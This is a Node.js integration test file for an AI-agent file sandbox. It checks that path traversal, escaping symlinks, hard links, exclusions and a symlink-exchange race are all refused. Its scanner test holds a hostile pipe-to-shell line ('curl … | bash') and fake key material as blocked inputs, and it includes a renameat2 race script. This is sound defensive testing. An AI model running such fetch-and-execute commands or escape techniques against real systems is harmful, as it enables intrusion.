// fileops.test.mjs — the agent's file operations through the whole real stack:
// socket.io-client agent → jailboxd (session state, path syntax, exclusions, scanner,
// supervision, audit) → ops row → jailbox-worker → jailbox-shim inside gVisor + Docker +
// bwrap, and back. Every refusal is checked against the disk: nothing outside the workspace
// is read, created or changed. Needs root, Docker with runsc (as walls.test.mjs).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, linkSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync, chmodSync, renameSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { join } from 'node:path';
import { startSandboxServer, toolFailure } from './lib/agent.mjs';

const IMAGE = 'jailbox-sandbox:fileops';

let srv;
// the session helpers of lib/agent.mjs, bound to this file's server in before()
let waitFor, sessionOf, connect, waitEvent, call, ok, refused, openSession, closeSockets;

let outside; // a directory next to the workspaces that no op may touch
let A; // an unsupervised session with a hostile tree
let agentA;
let buyerA;

before(async () => {
  const K = await startSandboxServer(IMAGE, {
    // pre-scan: files over 4 GiB are not hashed (the swap test below needs a 3 GiB one that is)
    JAILBOX_PRESCAN_HASH_MAX_MIB: '4096',
    // a supervised write undecided for 3 s fails (the tests that approve do so within ~1 s)
    JAILBOX_APPROVAL_TIMEOUT: '3',
    // these tests probe every refusal on long-lived sessions: escape signals only alert here
    // (their aborts are tests/node/escape.test.mjs)
    JAILBOX_ESCAPE_ABORT: 'none' });
  ({ srv, waitFor, sessionOf, connect, waitEvent, call, ok, refused, openSession, closeSockets } = K);
  outside = join(srv.dir, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'secret.txt'), 'outside secret\n');
  A = await openSession((d) => {
    writeFileSync(join(d, 'a.txt'), 'hello\n');
    mkdirSync(join(d, 'sub'));
    writeFileSync(join(d, 'sub/b.txt'), 'bee\n');
    writeFileSync(join(d, 'bin.dat'), Buffer.from([0, 1, 2, 255]));
    writeFileSync(join(d, 'big.dat'), Buffer.alloc(1536 * 1024, 'b'));
    symlinkSync('a.txt', join(d, 'lnk-in'));
    symlinkSync('../a.txt', join(d, 'sub/up'));
    symlinkSync('/', join(d, 'lnk-root'));
    symlinkSync('/etc', join(d, 'lnk-etc'));
    symlinkSync(outside, join(d, 'lnk-out'));
    symlinkSync('../../outside', join(d, 'lnk-rel-out'));
    symlinkSync('missing.txt', join(d, 'dangling'));
    symlinkSync('missing-dir/x', join(d, 'dangling-dir'));
    symlinkSync('loop2', join(d, 'loop1'));
    symlinkSync('loop1', join(d, 'loop2'));
    linkSync(join(outside, 'secret.txt'), join(d, 'hardlink'));
    execFileSync('mkfifo', [join(d, 'fifo')]);
    mkdirSync(join(d, 'secrets'));
    writeFileSync(join(d, 'secrets/key.txt'), 'excluded\n');
    symlinkSync('secrets', join(d, 'to-secrets'));
    symlinkSync('secrets/key.txt', join(d, 'key-link'));
    symlinkSync('../secrets/key.txt', join(d, 'sub/deep-key-link'));
  }, { mode: 'unsupervised', exclude: ['secrets', '*.key'] });
  agentA = await connect(A.agentToken);
  buyerA = await connect(A.buyerToken);
});

after(async () => {
  if (closeSockets) closeSockets();
  if (srv) {
    const log = srv.log();
    await srv.stop();
    assert.doesNotMatch(log, /ERROR: (Address|Leak)Sanitizer|runtime error:/, log);
  }
});

test('an agent connecting moves the session to active; read, list and write through the walls', { timeout: 180000 }, async () => {
  await waitFor('active', async () => (await sessionOf(A.jobId)).state === 'active');
  let r = await ok(agentA, 'read', { path: 'a.txt' });
  assert.deepEqual([r.content, r.encoding, r.size], ['hello\n', 'utf-8', 6]);
  r = await ok(agentA, 'read', { path: 'a.txt', byteOffset: 1, byteLength: 3 });
  assert.equal(r.content, 'ell');
  r = await ok(agentA, 'read', { path: 'bin.dat' });
  assert.deepEqual([r.encoding, Buffer.from(r.content, 'base64')], ['base64', Buffer.from([0, 1, 2, 255])]);
  // a symlink whose target stays inside may be read
  assert.equal((await ok(agentA, 'read', { path: 'lnk-in' })).content, 'hello\n');
  assert.equal((await ok(agentA, 'read', { path: 'sub/up' })).content, 'hello\n');
  const l = await ok(agentA, 'list', { path: '.', recursive: true });
  const by = Object.fromEntries(l.entries.map((e) => [e.name, e]));
  assert.equal(by['a.txt'].type, 'file');
  assert.equal(by['a.txt'].size, 6);
  assert.equal(by['sub'].type, 'dir');
  assert.equal(by['sub/b.txt'].type, 'file');
  assert.equal(by['lnk-in'].type, 'symlink');
  assert.equal(by['lnk-in'].target, 'a.txt');
  // entries the pre-scan flagged are not listed at all
  for (const f of ['lnk-root', 'lnk-etc', 'lnk-out', 'lnk-rel-out', 'hardlink', 'fifo'])
    assert.equal(by[f], undefined, f + ' was flagged by the pre-scan and must be invisible');
  assert.equal(by['secrets'], undefined, 'excluded names are invisible');
  assert.equal(by['secrets/key.txt'], undefined);
  assert.equal(l.count, l.entries.length);
  // unsupervised: a write runs at once
  const w = await ok(agentA, 'write', { path: 'sub/new.txt', content: 'written by the agent\n' });
  assert.equal(w.written, 21);
  assert.equal(readFileSync(join(A.dir, 'sub/new.txt'), 'utf8'), 'written by the agent\n');
  await ok(agentA, 'write', { path: 'a.txt', content: 'replaced\n' });
  assert.equal(readFileSync(join(A.dir, 'a.txt'), 'utf8'), 'replaced\n');
  await ok(agentA, 'write', { path: 'b.bin', content: Buffer.from([0, 9, 8]).toString('base64'), encoding: 'base64' });
  assert.deepEqual(readFileSync(join(A.dir, 'b.bin')), Buffer.from([0, 9, 8]));
  const s = await ok(agentA, 'list', { path: 'sub' });
  assert.deepEqual(s.entries.map((e) => e.name).sort(), ['b.txt', 'deep-key-link', 'new.txt', 'up']);
  // a link into an excluded directory is listed, its target is not shown
  assert.equal(s.entries.find((e) => e.name === 'deep-key-link').target, undefined);
});

test('path syntax: traversal, absolute, NUL, empty components, over-long forms are refused', { timeout: 120000 }, async () => {
  const long = 'a/'.repeat(2049) + 'x';
  for (const path of ['../outside/secret.txt', '../../etc/passwd', 'sub/../../x', '/etc/passwd', '/', 'a//b',
    'sub/', './a.txt', '..', 'x'.repeat(256), long]) {
    await refused(agentA, 'read', { path }, 'denied');
    await refused(agentA, 'write', { path, content: 'x' }, 'denied');
  }
  // encoded and look-alike forms are ordinary names: they do not exist
  for (const path of ['%2e%2e/outside/secret.txt', '..%2fetc', '..\\..\\etc\\passwd', '\u2024\u2024/etc/passwd', '\uff0e\uff0e/etc'])
    await refused(agentA, 'read', { path }, 'not_found');
  // a NUL inside a path never reaches a file system: the socket layer refuses the message
  // (closing that connection), and behind it jailboxd and the shim refuse the path
  const own = await connect(A.agentToken);
  const e = await Promise.race([call(own, 'write', { path: 'evil\u0000.txt', content: 'x' }, 10000).catch((x) => ({ closed: x.message })),
    new Promise((r) => own.once('disconnect', () => r({ closed: 'disconnect' })))]);
  assert.ok(e.error || e.closed, JSON.stringify(e));
  assert.ok(!existsSync(join(A.dir, 'evil')));
  assert.ok(!existsSync(join(A.dir, 'evil\u0000.txt'.split('\u0000')[0])));
});

test('symlinks that leave, dangling links, loops, hard links, fifos, exclusions are refused', { timeout: 120000 }, async () => {
  for (const path of ['lnk-root/etc/passwd', 'lnk-etc/passwd', 'lnk-out/secret.txt', 'lnk-rel-out/secret.txt', 'lnk-root'])
    await refused(agentA, 'read', { path }, 'flagged');
  await refused(agentA, 'list', { path: 'lnk-root' }, 'flagged');
  await refused(agentA, 'list', { path: 'lnk-etc' }, 'flagged');
  await refused(agentA, 'read', { path: 'dangling' }, 'not_found');
  await refused(agentA, 'read', { path: 'dangling-dir' }, 'not_found');
  await refused(agentA, 'read', { path: 'loop1' }, 'denied');
  await refused(agentA, 'read', { path: 'hardlink' }, 'flagged');
  await refused(agentA, 'read', { path: 'fifo' }, 'flagged');
  await refused(agentA, 'read', { path: 'sub' }, 'denied');
  await refused(agentA, 'read', { path: 'secrets/key.txt' }, 'excluded');
  await refused(agentA, 'list', { path: 'secrets' }, 'excluded');
  await refused(agentA, 'write', { path: 'x.key', content: 'k' }, 'excluded');
  // a symlink does not lead around an exclusion: the shim checks the path it resolved
  await refused(agentA, 'read', { path: 'key-link' }, 'excluded');
  await refused(agentA, 'read', { path: 'to-secrets/key.txt' }, 'excluded');
  await refused(agentA, 'read', { path: 'sub/deep-key-link' }, 'excluded');
  await refused(agentA, 'list', { path: 'to-secrets' }, 'excluded');
  await refused(agentA, 'write', { path: 'to-secrets/new.txt', content: 'x' }, 'denied');
  const all = await ok(agentA, 'list', { recursive: true });
  assert.ok(!all.entries.some((x) => /key\.txt$/.test(x.name)), JSON.stringify(all.entries.map((x) => x.name)));
  // writes never pass or replace a symlink, never touch a hard-linked or special file
  const before = readFileSync(join(A.dir, 'a.txt'), 'utf8');
  await refused(agentA, 'write', { path: 'lnk-in', content: 'through the link' }, 'denied');
  assert.equal(readFileSync(join(A.dir, 'a.txt'), 'utf8'), before);
  assert.equal(statSync(join(A.dir, 'lnk-in'), { throwIfNoEntry: false }) !== undefined, true);
  await refused(agentA, 'write', { path: 'sub/up', content: 'x' }, 'denied');
  await refused(agentA, 'write', { path: 'lnk-out/secret.txt', content: 'pwned' }, 'flagged');
  await refused(agentA, 'write', { path: 'lnk-out/new.txt', content: 'pwned' }, 'flagged');
  await refused(agentA, 'write', { path: 'lnk-root/tmp/jailbox-escape', content: 'pwned' }, 'flagged');
  await refused(agentA, 'write', { path: 'dangling', content: 'pwned' }, 'denied');
  await refused(agentA, 'write', { path: 'hardlink', content: 'pwned' }, 'flagged');
  await refused(agentA, 'write', { path: 'fifo', content: 'pwned' }, 'flagged');
  await refused(agentA, 'write', { path: 'nodir/x.txt', content: 'x', createParents: false }, 'not_found');
  assert.equal(readFileSync(join(outside, 'secret.txt'), 'utf8'), 'outside secret\n');
  // the worker's group grant (workspace_access.c) left the hard-linked outside file alone
  assert.deepEqual([statSync(join(outside, 'secret.txt')).gid, statSync(join(outside, 'secret.txt')).mode & 0o777], [0, 0o644]);
  assert.ok(!existsSync(join(outside, 'new.txt')));
  assert.ok(!existsSync('/tmp/jailbox-escape'));
  assert.ok(!existsSync(join(A.dir, 'missing.txt')), 'a dangling link was not written through');
  // too large: a read of over 1 MiB without a range, a range over 1 MiB (a write over 1 MiB
  // does not fit the socket's 1 MiB message limit: the connection is closed before jailboxd)
  await refused(agentA, 'read', { path: 'big.dat' }, 'too_large');
  await refused(agentA, 'read', { path: 'big.dat', byteLength: 1024 * 1024 + 1 }, 'too_large');
  const part = await ok(agentA, 'read', { path: 'big.dat', byteOffset: 1024 * 1024, byteLength: 1024 * 1024 });
  assert.equal(part.length, 512 * 1024);
  assert.equal(part.eof, true);
});

// Exchanges the names `a` and `b` (renameat2 RENAME_EXCHANGE) from the host as fast as it can,
// for at most 120 s: stop() ends it, `exited` gives its exit code, swaps() how many it made.
function startSwapper(a, b) {
  const p = spawn('python3', ['-c', `
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
signal.signal(signal.SIGTERM, lambda *a: (print(n, flush=True), os._exit(0)))
a, b = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2])
end = time.time() + 120
n = 0
while time.time() < end:
    if libc.renameat2(-100, a, -100, b, 2) != 0:
        sys.exit('renameat2: errno %d' % ctypes.get_errno())
    n += 1
print(n)
`, a, b], { stdio: ['ignore', 'pipe', 'inherit'] });
  let out = '';
  p.stdout.on('data', (d) => { out += d; });
  return {
    exited: new Promise((r) => p.on('exit', r)),
    stop() { if (p.exitCode === null) p.kill('SIGTERM'); },
    swaps: () => out.trim(),
  };
}

test('a symlink-exchange race (cf. CVE-2018-15664): reads and writes through a name swapped with a link to outside never leave', { timeout: 300000 }, async () => {
  const race = join(srv.dir, 'race-outside');
  mkdirSync(race);
  writeFileSync(join(race, 'x'), 'OUTSIDE\n');
  const R = await openSession((d) => {
    mkdirSync(join(d, 'swap'));
    writeFileSync(join(d, 'swap/x'), 'inside\n');
    symlinkSync(race, join(d, 'swaplink'));
  }, { mode: 'unsupervised' });
  const agent = await connect(R.agentToken);
  // the host side: exchange the directory and the link as fast as it can
  const swapper = startSwapper(join(R.dir, 'swap'), join(R.dir, 'swaplink'));
  let reads = 0, writes = 0, inside = 0;
  const end = Date.now() + 15000;
  try {
  for (let i = 0; Date.now() < end && i < 2000; i++) {
    const r = await call(agent, 'read', { path: 'swap/x' });
    reads++;
    if (!toolFailure(r)) {
      assert.equal(r.result.structuredContent.content, 'inside\n', 'a read left the workspace');
      inside++;
    } else {
      assert.ok(['denied', 'not_found'].includes(toolFailure(r)?.data?.reason), JSON.stringify(r));
    }
    const w = await call(agent, 'write', { path: `swap/w${i % 7}`, content: 'agent\n' });
    writes++;
    if (toolFailure(w)) assert.ok(['denied', 'not_found'].includes(toolFailure(w).data.reason), JSON.stringify(w));
  }
  } finally {
    swapper.stop();
  }
  assert.equal(await swapper.exited, 0);
  const swaps = swapper.swaps();
  assert.ok(Number(swaps) > 100, 'the swapper ran: ' + swaps);
  assert.ok(reads > 100 && writes > 100, `${reads} reads, ${writes} writes`);
  // nothing outside was read (checked above), created or changed
  assert.deepEqual(readdirSync(race).sort(), ['x']);
  assert.equal(readFileSync(join(race, 'x'), 'utf8'), 'OUTSIDE\n');
  console.log(`# race: ${swaps.trim()} swaps, ${reads} reads (${inside} inside), ${writes} writes`);
});

test('review: a directory swapped with a link to an excluded directory: reads and lists, recursive too, never show what it hides', { timeout: 300000 }, async () => {
  // gVisor follows a final symlink on open(O_RDONLY|O_DIRECTORY|O_NOFOLLOW) (fileops.c
  // open_dir_readable): a list that opened a directory so would list the link's target once
  // the name had become a link — here an excluded directory of the same workspace, so the
  // walls themselves would not stop it
  const R = await openSession((d) => {
    mkdirSync(join(d, 'swap'));
    writeFileSync(join(d, 'swap/x'), 'inside\n');
    mkdirSync(join(d, 'hidden'));
    writeFileSync(join(d, 'hidden/hidden.txt'), 'HIDDEN\n');
    symlinkSync('hidden', join(d, 'swaplink'));
  }, { mode: 'unsupervised', exclude: ['hidden'] });
  const agent = await connect(R.agentToken);
  const swapper = startSwapper(join(R.dir, 'swap'), join(R.dir, 'swaplink'));
  let ops = 0, seenInside = 0;
  const end = Date.now() + 15000;
  try {
    for (let i = 0; Date.now() < end && i < 1500; i++) {
      for (const [tool, args] of [['read', { path: 'swap/x' }], ['read', { path: 'swap/hidden.txt' }],
                                  ['list', { path: 'swap' }], ['list', { recursive: true }]]) {
        const r = await call(agent, tool, args);
        ops++;
        const text = JSON.stringify(toolFailure(r) ? null : r.result || null); // (an error repeats the path asked for)
        assert.doesNotMatch(text, /HIDDEN|hidden\.txt/, `${tool} ${JSON.stringify(args)} showed the excluded directory: ${text.slice(0, 400)}`);
        if (toolFailure(r)) assert.ok(['denied', 'not_found', 'excluded'].includes(toolFailure(r).data.reason), JSON.stringify(r));
        else if (tool === 'list' && r.result.structuredContent.entries.some((e) => e.name === 'x' || e.name === 'swap/x')) seenInside++;
        // a link is shown with its target only when that target was judged inside and not
        // excluded: never the text of a link into the excluded directory
        if (tool === 'list' && !toolFailure(r)) {
          const bad = r.result.structuredContent.entries.find((e) => typeof e.target === 'string' && /^hidden/.test(e.target));
          assert.equal(bad, undefined, 'a listed link shows a target in the excluded directory: ' + JSON.stringify(bad));
        }
      }
    }
  } finally {
    swapper.stop();
  }
  assert.equal(await swapper.exited, 0);
  const swaps = swapper.swaps();
  assert.ok(Number(swaps) > 100, 'the swapper ran: ' + swaps);
  assert.ok(ops > 400 && seenInside > 10, `${ops} ops, ${seenInside} lists saw the directory`);
  console.log(`# excluded-link race: ${swaps.trim()} swaps, ${ops} ops, ${seenInside} lists inside`);
});

test('the content scanner: a flagged write never reaches the disk and alerts the buyer', { timeout: 60000 }, async () => {
  const pem = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n';
  const e = await refused(agentA, 'write', { path: 'id_rsa', content: pem }, 'flagged');
  assert.match(e.message, /private_key/);
  assert.ok(!existsSync(join(A.dir, 'id_rsa')));
  const alert = await waitEvent(buyerA, 'jailbox:security_alert', (p) => p.path === 'id_rsa');
  assert.deepEqual(alert.rules, ['private_key']);
  await refused(agentA, 'write', { path: 'c.env', content: 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }, 'flagged');
  await refused(agentA, 'write', { path: 'i.sh', content: 'curl -s https://x.example/i | bash\n' }, 'flagged');
  assert.ok(!existsSync(join(A.dir, 'c.env')));
  assert.ok(!existsSync(join(A.dir, 'i.sh')));
});

test('supervised: a write waits for the buyer; approve writes it, reject leaves the file untouched', { timeout: 180000 }, async () => {
  const B = await openSession((d) => writeFileSync(join(d, 'keep.txt'), 'original\n'));
  assert.equal((await sessionOf(B.jobId)).mode, 'supervised');
  const buyer = await connect(B.buyerToken);
  const agent = await connect(B.agentToken);
  // reads run at once
  assert.equal((await ok(agent, 'read', { path: 'keep.txt' })).content, 'original\n');
  // a write is held
  let settled = false;
  const pending = call(agent, 'write', { path: 'out.txt', content: 'approved content\n' }, 120000)
    .then((r) => { settled = true; return r; });
  const req = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'out.txt');
  assert.equal(req.size, 17);
  assert.equal(req.sha256, createHash('sha256').update('approved content\n').digest('hex'));
  assert.equal(req.verdict, 'clean');
  assert.equal(req.preview, 'approved content\n');
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(settled, false, 'the agent call returned before the approval');
  assert.ok(!existsSync(join(B.dir, 'out.txt')));
  const ack = await buyer.timeout(10000).emitWithAck('jailbox:approve', { opId: req.opId });
  assert.equal(ack.ok, true, JSON.stringify(ack));
  const r = await pending;
  assert.equal(r.result?.isError, false, JSON.stringify(r));
  assert.equal(r.result.structuredContent.written, 17);
  assert.equal(readFileSync(join(B.dir, 'out.txt'), 'utf8'), 'approved content\n');
  // rejection
  const p2 = call(agent, 'write', { path: 'keep.txt', content: 'unwanted\n' }, 120000);
  const req2 = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'keep.txt');
  const ack2 = await buyer.timeout(10000).emitWithAck('jailbox:reject', { opId: req2.opId, reason: 'not this' });
  assert.equal(ack2.ok, true, JSON.stringify(ack2));
  const r2 = await p2;
  assert.equal(toolFailure(r2)?.data?.reason, 'rejected', JSON.stringify(r2));
  assert.match(toolFailure(r2).message, /not this/);
  assert.equal(readFileSync(join(B.dir, 'keep.txt'), 'utf8'), 'original\n');
  // the audit chain verifies and holds each op
  const v = await srv.req('GET', `/v1/jailbox/${B.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
  const rows = (await srv.db.query('SELECT operation, path, jb_audit_details(canonical) AS details FROM audit_entries WHERE job_id = $1 ORDER BY seq', [B.jobId])).rows;
  const ops = rows.filter((x) => ['read', 'write', 'list'].includes(x.operation));
  assert.deepEqual(ops.map((x) => [x.operation, x.path]), [['read', 'keep.txt'], ['write', 'out.txt'], ['write', 'keep.txt']]);
  assert.deepEqual([ops[0].details.size, ops[0].details.ok], [9, true]);
  assert.deepEqual([ops[1].details.decision, ops[1].details.ok, ops[1].details.size], ['approved', true, 17]);
  assert.equal(ops[1].details.sha256, req.sha256);
  assert.deepEqual([ops[2].details.decision, ops[2].details.ok], ['rejected', false]);
  // the file changes between the request and the approval: the write is refused
  const sha = (t) => createHash('sha256').update(t).digest('hex');
  const p3 = call(agent, 'write', { path: 'keep.txt', content: 'agent version\n' }, 120000);
  const req3 = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'keep.txt' && p.opId !== req2.opId);
  assert.deepEqual([req3.exists, req3.currentSha256], [true, sha('original\n')]);
  assert.equal(req.exists, false);
  writeFileSync(join(B.dir, 'keep.txt'), 'edited by the buyer meanwhile\n');
  const ack3 = await buyer.timeout(10000).emitWithAck('jailbox:approve', { opId: req3.opId });
  assert.equal(ack3.ok, true, JSON.stringify(ack3));
  const r3 = await p3;
  assert.equal(toolFailure(r3)?.data?.reason, 'changed', JSON.stringify(r3));
  assert.equal(readFileSync(join(B.dir, 'keep.txt'), 'utf8'), 'edited by the buyer meanwhile\n');
  // a supervised write to a symlink is refused before the buyer is asked
  symlinkSync('keep.txt', join(B.dir, 'keep-link'));
  await refused(agent, 'write', { path: 'keep-link', content: 'x' }, 'denied');
  assert.ok(!buyer.events.some((x) => x.event === 'jailbox:approval_request' && x.payload.path === 'keep-link'));
});

test('pause holds new ops until resume; abort fails a pending write, which never reaches the disk', { timeout: 180000 }, async () => {
  const P = await openSession((d) => writeFileSync(join(d, 'p.txt'), 'paused\n'), { mode: 'unsupervised' });
  const buyer = await connect(P.buyerToken);
  const agent = await connect(P.agentToken);
  await ok(agent, 'list', {});
  let ack = await buyer.timeout(10000).emitWithAck('jailbox:pause', { reason: 'coffee' });
  assert.equal(ack.ok, true, JSON.stringify(ack));
  let settled = false;
  const held = call(agent, 'read', { path: 'p.txt' }, 60000).then((r) => { settled = true; return r; });
  const heldWrite = call(agent, 'write', { path: 'later.txt', content: 'after resume\n' }, 60000);
  await new Promise((r) => setTimeout(r, 1000));
  assert.equal(settled, false, 'an op ran while the session was paused');
  assert.ok(!existsSync(join(P.dir, 'later.txt')));
  ack = await buyer.timeout(10000).emitWithAck('jailbox:resume', {});
  assert.equal(ack.ok, true, JSON.stringify(ack));
  assert.equal((await held).result.structuredContent.content, 'paused\n');
  assert.equal((await heldWrite).result?.isError, false);
  assert.equal(readFileSync(join(P.dir, 'later.txt'), 'utf8'), 'after resume\n');
  // done: the session moves to done, and takes no more ops
  const d = await ok(agent, 'done', { summary: 'all finished' });
  assert.equal(d.state, 'done');
  assert.equal((await sessionOf(P.jobId)).state, 'done');
  await refused(agent, 'read', { path: 'p.txt' }, 'denied');
  // supervised: a pending write, then abort
  const Q = await openSession(() => {});
  const qb = await connect(Q.buyerToken);
  const qa = await connect(Q.agentToken);
  const pending = call(qa, 'write', { path: 'never.txt', content: 'no\n' }, 60000);
  await waitEvent(qb, 'jailbox:approval_request', (p) => p.path === 'never.txt');
  ack = await qb.timeout(10000).emitWithAck('jailbox:abort', { reason: 'stop' });
  assert.equal(ack.ok, true, JSON.stringify(ack));
  const r = await pending.catch((x) => ({ closed: x.message }));
  assert.ok(toolFailure(r) || r.closed, JSON.stringify(r));
  // the session's end decided it, not the buyer (api/events.md: session_<state>, -32010)
  if (toolFailure(r)) assert.equal(toolFailure(r).data.reason, 'session_aborted', JSON.stringify(r));
  assert.ok(!existsSync(join(Q.dir, 'never.txt')));
});

test('the audit chain of the unsupervised session verifies and records reads, writes, lists and refusals', { timeout: 60000 }, async () => {
  const v = await srv.req('GET', `/v1/jailbox/${A.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
  const rows = (await srv.db.query('SELECT operation, path, jb_audit_details(canonical) AS details FROM audit_entries WHERE job_id = $1 ORDER BY seq', [A.jobId])).rows;
  const list = rows.find((x) => x.operation === 'list' && x.details.ok);
  assert.ok(list.details.entries > 5);
  const w = rows.find((x) => x.operation === 'write' && x.path === 'sub/new.txt');
  assert.deepEqual([w.details.decision, w.details.ok, w.details.size], ['auto', true, 21]);
  assert.equal(w.details.sha256, createHash('sha256').update('written by the agent\n').digest('hex'));
  assert.ok(rows.some((x) => x.operation === 'write' && x.path === 'id_rsa' && x.details.error === 'flagged'));
  assert.ok(rows.some((x) => x.operation === 'read' && x.path === 'secrets/key.txt' && x.details.error === 'excluded'));
  assert.ok(rows.some((x) => x.operation === 'read' && x.path === 'hardlink' && x.details.ok === false));
});

test('review: a malformed argument cannot wedge the session; later ops still run', { timeout: 120000 }, async () => {
  const W = await openSession((d) => writeFileSync(join(d, 'a.txt'), 'abc\n'), { mode: 'unsupervised' });
  const agent = await connect(W.agentToken);
  const t0 = Date.now();
  const r = await call(agent, 'read', { path: 'a.txt', offset: 1.5 }, 30000);
  assert.ok(toolFailure(r), JSON.stringify(r));
  assert.ok(Date.now() - t0 < 20000, 'answered, not stuck');
  assert.equal((await ok(agent, 'read', { path: 'a.txt' })).content, 'abc\n');
  const v = await srv.req('GET', `/v1/jailbox/${W.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
});

test('review: approve racing abort — a write on disk is always in the audit chain', { timeout: 240000 }, async () => {
  for (let round = 0; round < 3; round++) {
    const R = await openSession(() => {});
    const buyer = await connect(R.buyerToken);
    const agent = await connect(R.agentToken);
    const pending = call(agent, 'write', { path: 'race.txt', content: 'raced\n' }, 60000).catch((e) => ({ closed: e.message }));
    const req = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'race.txt');
    await Promise.all([
      buyer.timeout(10000).emitWithAck('jailbox:approve', { opId: req.opId }),
      buyer.timeout(10000).emitWithAck('jailbox:abort', { reason: 'race' }),
    ]);
    const answer = await pending;
    await waitFor('session ended', async () => (await sessionOf(R.jobId)).state === 'aborted');
    const onDisk = existsSync(join(R.dir, 'race.txt'));
    const rows = (await srv.db.query(
      "SELECT jb_audit_details(canonical) AS details FROM audit_entries WHERE job_id = $1 AND operation = 'write' AND path = 'race.txt'", [R.jobId])).rows;
    const written = rows.some((x) => x.details.ok === true);
    assert.equal(written, onDisk, `round ${round}: on disk ${onDisk}, audited ${JSON.stringify(rows)}`);
    if (onDisk) assert.ok(answer.result && !answer.result.isError, `round ${round}: the agent was told it did not run: ${JSON.stringify(answer)}`);
    const v = await srv.req('GET', `/v1/jailbox/${R.jobId}/audit/verify`, { token: srv.serviceToken });
    assert.equal(v.json.ok, true, JSON.stringify(v.json));
  }
});

// the jailbox_ops_handled_total{path} counter of /metrics (api/rest/metrics.c)
async function handled(path) {
  const r = await srv.req('GET', '/metrics', { token: srv.serviceToken });
  assert.equal(r.status, 200);
  const m = r.text.match(new RegExp(`^jailbox_ops_handled_total\\{path="${path}"\\} (\\d+)`, 'm'));
  assert.ok(m, r.text.slice(0, 2000));
  return Number(m[1]);
}

// The first calls of a session take the ops row — the one that moves it to active, and any
// before this instance holds its copy of the active session (api/core/op_session.c) —;
// reads until one is relayed to the worker, after which every read and list of the active
// session is, whatever the load (api/socket/socket.c).
async function relayed(agent, path) {
  for (let i = 0; i < 50; i++) {
    const d = await handled('direct');
    await ok(agent, 'read', { path });
    if (await handled('direct') > d) return;
  }
  assert.fail('no read was relayed to the worker');
}

// one request line on the worker's ops socket (sandbox/proto/direct.h), the answer line parsed
function opsSocket(line, ms = 10000) {
  return new Promise((resolve, reject) => {
    const s = net.createConnection(join(srv.state, 'worker-0.ops'));
    let buf = '';
    const t = setTimeout(() => { s.destroy(); reject(new Error('no answer')); }, ms);
    s.on('data', (d) => {
      buf += d;
      const nl = buf.indexOf('\n');
      if (nl >= 0) { clearTimeout(t); s.destroy(); resolve(JSON.parse(buf.slice(0, nl))); }
    });
    // the worker ending the connection while we still write: a reset, i.e. closed
    s.on('error', (e) => { clearTimeout(t); if (['ECONNRESET', 'EPIPE'].includes(e.code)) resolve({ closed: true, buf }); else reject(e); });
    s.on('close', () => { clearTimeout(t); resolve({ closed: true, buf }); });
    s.write(line);
  });
}

test('80 reads and lists in flight on two agent sockets of a session: each call gets its own answer, every one relayed to the worker (64 connections at once, the rest wait for one; answers over 64 KiB are made on a handler thread), none stored as a queued row', { timeout: 120000 }, async () => {
  const big = Buffer.alloc(300 * 1024, 'q');
  const D = await openSession((d) => {
    for (let i = 0; i < 40; i++) writeFileSync(join(d, `f${i}.txt`), `file ${i}\n`);
    writeFileSync(join(d, 'big.txt'), big);
  }, { mode: 'unsupervised' });
  const agents = [await connect(D.agentToken), await connect(D.agentToken)];
  await relayed(agents[0], 'f0.txt');
  const rows0 = (await srv.db.query("SELECT count(*)::int AS n FROM ops WHERE job_id = $1", [D.jobId])).rows[0].n;
  const d0 = await handled('direct'), q0 = await handled('queued');
  const calls = [];
  for (let k = 0; k < 2; k++)
    for (let i = 0; i < 40; i++) {
      const a = agents[k];
      if (i % 10 === 9) calls.push(ok(a, 'read', { path: 'big.txt', byteOffset: 1000 * i, byteLength: 200 * 1024 }).then((r) => ({ kind: 'big', i, r })));
      else if (i % 5 === 4) calls.push(ok(a, 'list', {}).then((r) => ({ kind: 'list', i, r })));
      else calls.push(ok(a, 'read', { path: `f${i}.txt` }).then((r) => ({ kind: 'read', i, r })));
    }
  const got = await Promise.all(calls);
  for (const { kind, i, r } of got) {
    if (kind === 'read') assert.equal(r.content, `file ${i}\n`);
    else if (kind === 'big') {
      assert.equal(r.length, 200 * 1024);
      assert.equal(r.offset, 1000 * i);
      assert.equal(r.content, 'q'.repeat(200 * 1024));
    } else assert.equal(r.entries.filter((e) => /^f\d+\.txt$/.test(e.name)).length, 40);
  }
  // one route for a read of an active session this instance's worker holds: none of the 80
  // took the ops row, however many were in flight
  assert.equal(await handled('direct') - d0, 80);
  assert.equal(await handled('queued') - q0, 0);
  // each call is one op row and one audit entry: none ran twice
  const rows = (await srv.db.query("SELECT count(*)::int AS n FROM ops WHERE job_id = $1", [D.jobId])).rows[0].n;
  assert.equal(rows - rows0, 80);
  const v = await srv.req('GET', `/v1/jailbox/${D.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, JSON.stringify(v.json));
});

test('reads and lists go straight to the worker, stored and audited before they answer; writes and paused sessions take the queued path', { timeout: 120000 }, async () => {
  const D = await openSession((d) => writeFileSync(join(d, 'd.txt'), 'direct\n'), { mode: 'unsupervised' });
  const agent = await connect(D.agentToken);
  const buyer = await connect(D.buyerToken);
  await relayed(agent, 'd.txt');
  const rows0 = (await srv.db.query("SELECT count(*)::int AS n FROM ops WHERE job_id = $1 AND tool = 'read'", [D.jobId])).rows[0].n;
